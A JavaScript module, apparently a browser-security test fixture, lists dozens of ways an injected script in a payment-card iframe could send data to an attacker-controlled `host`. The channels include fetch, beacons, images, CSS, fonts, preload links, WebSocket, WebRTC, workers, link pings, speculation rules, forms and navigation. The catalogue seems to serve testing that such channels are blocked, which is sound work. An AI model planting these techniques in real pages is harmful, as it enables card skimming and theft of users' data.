// Every way in which a script inside the card frame could carry a card away. Each function runs in the
// frame, as an injected script would; `host` is the attacker's server.

const element = (tag, properties, parent = 'document.body') => `({ host }) => {
  const element = document.createElement('${tag}');
  for (const [name, value] of Object.entries((${properties})(\`http://\${host}/stolen\`))) element.setAttribute(name, value);
  ${parent}.append(element);
  element.click?.();
}`;

/** Ways that leave the page standing. */
export const QUIET = [
  ['fetch', ({ host }) => void fetch(`http://${host}/stolen`, { mode: 'no-cors' }).catch(() => 0)],
  ['fetch, kept alive', ({ host }) => void fetch(`http://${host}/stolen`, { method: 'POST', body: 'card', mode: 'no-cors', keepalive: true }).catch(() => 0)],
  ['XMLHttpRequest', ({ host }) => {
    const request = new XMLHttpRequest();
    request.open('POST', `http://${host}/stolen`);
    request.send('card');
  }],
  ['navigator.sendBeacon', ({ host }) => void navigator.sendBeacon(`http://${host}/stolen`, 'card')],
  ['new Image', ({ host }) => void (new Image().src = `http://${host}/stolen`)],
  ['img in the page', element('img', (url) => ({ src: url }))],
  ['srcset', element('img', (url) => ({ srcset: `${url} 1x` }))],
  ['input of type image', element('input', (url) => ({ type: 'image', src: url }))],
  ['SVG image', ({ host }) => {
    const svg = document.createElementNS('http://www.w3.org/2000/svg', 'svg');
    const image = document.createElementNS('http://www.w3.org/2000/svg', 'image');
    image.setAttribute('href', `http://${host}/stolen`);
    svg.append(image);
    document.body.append(svg);
  }],
  ['script element', element('script', (url) => ({ src: `${url}.js` }))],
  ['module script', element('script', (url) => ({ type: 'module', src: `${url}.js` }))],
  ['import()', ({ host }) => void import(`http://${host}/stolen.js`).catch(() => 0)],
  ['style sheet', element('link', (url) => ({ rel: 'stylesheet', href: `${url}.css` }), 'document.head')],
  ['a picture by CSSOM', ({ host }) => void (document.body.style.backgroundImage = `url(http://${host}/stolen)`)],
  ['a picture by a constructed sheet', ({ host }) => {
    const sheet = new CSSStyleSheet();
    sheet.replaceSync(`html { border-image: url(http://${host}/stolen) 1; border-width: 1px; border-style: solid }`);
    document.adoptedStyleSheets = [...document.adoptedStyleSheets, sheet];
  }],
  ['FontFace', ({ host }) => void new FontFace('x', `url(http://${host}/stolen)`).load().catch(() => 0)],
  ['link of rel prefetch', element('link', (url) => ({ rel: 'prefetch', href: url }), 'document.head')],
  ['link of rel preload', element('link', (url) => ({ rel: 'preload', as: 'fetch', crossorigin: '', href: url }), 'document.head')],
  ['link of rel modulepreload', element('link', (url) => ({ rel: 'modulepreload', href: `${url}.js` }), 'document.head')],
  ['link of rel preconnect', element('link', (url) => ({ rel: 'preconnect', href: url }), 'document.head'), 'a headless Chromium makes no connection in advance, for any page'],
  ['link of rel manifest', element('link', (url) => ({ rel: 'manifest', href: url }), 'document.head'), 'a headless browser offers no page to be installed, so it fetches no manifest'],
  ['iframe', element('iframe', (url) => ({ src: `${url}.html` }))],
  ['object', element('object', (url) => ({ data: `${url}.html` }))],
  ['embed', element('embed', (url) => ({ src: `${url}.html` }))],
  ['video', element('video', (url) => ({ src: url, preload: 'auto' }))],
  ['video poster', element('video', (url) => ({ poster: url }))],
  ['audio', element('audio', (url) => ({ src: url, preload: 'auto' }))],
  ['WebSocket', ({ host }) => void new WebSocket(`ws://${host}/stolen`)],
  ['EventSource', ({ host }) => void new EventSource(`http://${host}/stolen.events`)],
  ['WebTransport', ({ port }) => void new WebTransport(`https://127.0.0.1:${port}/stolen`).ready.catch(() => 0)],
  ['WebRTC, STUN', ({ port }) => {
    const connection = new RTCPeerConnection({ iceServers: [{ urls: `stun:127.0.0.1:${port}` }] });
    connection.createDataChannel('card');
    void connection.createOffer().then((offer) => connection.setLocalDescription(offer));
  }],
  ['WebRTC, TURN over TCP', ({ port }) => {
    const connection = new RTCPeerConnection({ iceTransportPolicy: 'relay', iceServers: [{ urls: `turn:127.0.0.1:${port}?transport=tcp`, username: 'card', credential: 'card' }] });
    connection.createDataChannel('card');
    void connection.createOffer().then((offer) => connection.setLocalDescription(offer));
  }],
  ['worker', ({ host }) => void new Worker(URL.createObjectURL(new Blob([`fetch("http://${host}/stolen", { mode: "no-cors" })`])))],
  ['worker with importScripts', ({ host }) => void new Worker(URL.createObjectURL(new Blob([`importScripts("http://${host}/stolen.js")`])))],
  ['shared worker', ({ host }) => void new SharedWorker(URL.createObjectURL(new Blob([`fetch("http://${host}/stolen", { mode: "no-cors" })`])))],
  ['the ping of a link', ({ host }) => {
    const link = Object.assign(document.createElement('a'), { href: '#here', ping: `http://${host}/stolen` });
    document.body.append(link);
    link.click();
  }],
  ['speculation rules', ({ host }) => {
    const script = Object.assign(document.createElement('script'), { type: 'speculationrules' });
    script.textContent = JSON.stringify({ prefetch: [{ source: 'list', urls: [`http://${host}/stolen.html`], eagerness: 'immediate' }] });
    document.body.append(script);
  }],
  ['markup', ({ host }) => void document.body.insertAdjacentHTML('beforeend', `<img src="http://${host}/stolen">`)],
  ['markup of a document of its own', ({ host }) => {
    const inner = document.createElement('iframe');
    document.body.append(inner);
    inner.contentDocument.body.append(Object.assign(inner.contentDocument.createElement('img'), { src: `http://${host}/stolen` }));
  }],
  ['a window', ({ host }) => void window.open(`http://${host}/stolen.html`)],
  ['a window by a link', element('a', (url) => ({ href: `${url}.html`, target: '_blank' }))],
  ['a form into a window', ({ host }) => {
    const form = Object.assign(document.createElement('form'), { action: `http://${host}/stolen.html`, method: 'post', target: '_blank' });
    document.body.append(form);
    form.submit();
  }],
];

/** Ways that lead the page away where they work. */
export const LEAVING = [
  ['location of the frame', ({ host }) => void (location = `http://${host}/stolen.html`)],
  ['a link in the frame', element('a', (url) => ({ href: `${url}.html` }))],
  ['a form in the frame', ({ host }) => {
    const form = Object.assign(document.createElement('form'), { action: `http://${host}/stolen.html`, method: 'post' });
    document.body.append(form);
    form.submit();
  }],
  ['meta refresh', ({ host }) => {
    const meta = document.createElement('meta');
    meta.httpEquiv = 'refresh';
    meta.content = `0;url=http://${host}/stolen.html`;
    document.head.append(meta);
  }],
  ['location of the top window', ({ host }) => void (top.location = `http://${host}/stolen.html`)],
  ['a form into the top window', ({ host }) => {
    const form = Object.assign(document.createElement('form'), { action: `http://${host}/stolen.html`, target: '_top' });
    document.body.append(form);
    form.submit();
  }],
];
